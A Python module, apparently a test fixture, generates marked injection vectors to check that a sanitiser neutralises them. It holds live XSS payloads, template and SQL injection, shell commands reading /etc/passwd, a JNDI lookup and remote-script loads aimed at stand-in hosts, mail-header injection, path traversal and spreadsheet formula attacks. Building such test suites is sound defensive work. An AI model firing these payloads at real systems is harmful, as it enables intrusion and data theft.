"""C7: words that would do something if anybody took them for more than words.

Each begins with a mark of its own, so that a page can be asked what became of it. None holds a
character that `language.clean` takes out: a vector comes back as it was typed, or it did harm.
"""

import re
from collections.abc import Iterator
from itertools import count, product

MARK = re.compile(r"zq[0-9]{4}qz")
RAN = "__ran"  # what a vector sets in a window where it runs

_DO = f"window.{RAN}=1,alert(1)"


def _tags_with_handlers() -> Iterator[str]:
    elements = (
        "img src=x onerror", "svg onload", "body onload", "input autofocus onfocus",
        "details open ontoggle", "video src=x onerror", "audio src=x onerror",
        "marquee onstart", "iframe onload", "object data=x onerror", "embed src=x onload",
        "select autofocus onfocus", "textarea autofocus onfocus", "style onload",
        "link rel=stylesheet href=x onerror", "math href=x onfocus", "button onclick",
        "a href=x onmouseover", "div style=animation-name:x onanimationstart",
        "keygen autofocus onfocus", "form onformdata", "source onerror", "isindex onfocus",
        "svg><animate onbegin", "svg><set onbegin", "x contenteditable onblur",
    )  # fmt: skip
    written = ("<{}={}>", "<{}='{}'>", '<{}="{}"/>', "<{}\u00a0={}>", "<{} = {} //")
    for element, form in product(elements, written):
        yield form.format(element, _DO)


def _out_of_an_attribute() -> Iterator[str]:
    for quote, handler in product(
        ('"', "'", "`", '" ', "' ", '">', "'>", "\\'", '\\"', "&quot;", "&#39;", "&#x22;"),
        ("onfocus", "onmouseover", "autofocus onfocus", "style=x onclick"),
    ):
        yield f"{quote} {handler}={_DO} x={quote.strip()}"


def _out_of_an_element() -> Iterator[str]:
    ends = (
        "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>", "</select>",
        "</noscript>", "</template>", "</svg>", "</math>", "</option>", "*/", "</iframe>",
    )  # fmt: skip
    for end in ends:
        yield f"{end}<script>{_DO}</script>"
        yield f"{end}<img src=x onerror={_DO}>"


def _schemes() -> Iterator[str]:
    places = (
        "a href", "iframe src", "form action", "object data", "embed src", "base href", "img src",
        "meta http-equiv=refresh content=0;url", "svg><a xlink:href", "button formaction",
    )  # fmt: skip
    targets = (
        f"javascript:{_DO}", f"JaVaScRiPt:{_DO}", f"&#106;avascript:{_DO}",
        f"&#x000000006A;avascript:{_DO}", f"&#0000106avascript:{_DO}", f"java&Tab;script:{_DO}",
        "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "//evil.example/x",
        "file:///etc/passwd", "http://127.0.0.1:9/x",
    )  # fmt: skip
    for place, target in product(places, targets):
        yield f"<{place}={target}>x"


OTHERS = (
    # templates
    "{{7*7}}", "{% debug %}", "{% load x %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "[[7*7]]",
    "{{constructor.constructor('alert(1)')()}}", "%(name)s", "{0}", "%s%n%x", "{{request.user}}",
    "{% include '/etc/passwd' %}", "{{settings.SECRET_KEY}}", "@{7*7}", "*{7*7}", "~{x}",
    # script and JSON
    '"};alert(1);//', "'-alert(1)-'", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3e", "<!--<script>", "</ScRiPt ><script>alert(1)</script>", '\\";alert(1)//',
    "${alert(1)}", "`;alert(1)`", '{"__proto__":{"x":1}}', "');alert(1);('",
    # styles
    "<style>@import 'http://127.0.0.1:9/x.css';</style>", "<p style=width:expression(alert(1))>",
    "<p style=background:url(javascript:alert(1))>", "</style><style>*{display:none}",
    "<link rel=stylesheet href=data:text/css,*{display:none}>", "}body{display:none}",
    # what mends itself into something else
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=alert(1)>">',
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a/href='x'/onclick=alert(1)>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>", "<script/src=//127.0.0.1:9/x.js>", "<img \"\"\"><script>x",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;", "%3Cscript%3Ealert(1)",
    "＜script＞alert(1)＜/script＞", "‹script›alert(1)", "<ſcript>alert(1)</ſcript>",
    # paper: typst, TeX, PDF
    '#read("/etc/passwd")', '#import "x.typ"', "$x$", "= 题", "@ref", "<label>", "#eval(\"1\")",
    '#link("javascript:alert(1)")[x]', "\\input{/etc/passwd}", "\\u{202e}", ") /JS (app.alert(1))",
    '#image("/etc/passwd")', "*粗* _斜_", "#set page(width: 1pt)", "```x```", "#panic()",
    # databases, shells, logs, mail, directories
    "'; DROP TABLE petitions_petition; --", "' OR '1'='1", "1) UNION SELECT NULL--", "\\'; --",
    "$(id)", "`id`", "; cat /etc/passwd", "| id", "&& id", "%0d%0aSet-Cookie: x=1",
    "%0aBcc: x@evil.example", "=?utf-8?q?x?=", "*)(uid=*))(|(uid=*", "${jndi:ldap://127.0.0.1:9/x}",
    "../../../../etc/passwd", "%2e%2e%2fetc%2fpasswd", "【回音】您的验证码是1234",
)  # fmt: skip

FORMULAS = (
    "=1+1", "+86", "-2+3", "@SUM(A1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x","y")',
    "=WEBSERVICE(\"http://127.0.0.1:9\")", "＝1+1", "＋1", "－1", "＠x", " =1+1", "=1+1;=2",
    "=IMPORTXML(1,2)", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@cmd", "=\"a\"&\"b\"",
)  # fmt: skip


def vectors() -> dict[str, str]:
    """Every vector by its mark."""
    bodies = (
        *_tags_with_handlers(), *_out_of_an_attribute(), *_out_of_an_element(), *_schemes(),
        *OTHERS,
    )  # fmt: skip
    marks = (f"zq{number:04}qz" for number in count(1))
    return {mark: mark + body for mark, body in zip(marks, bodies, strict=False)}
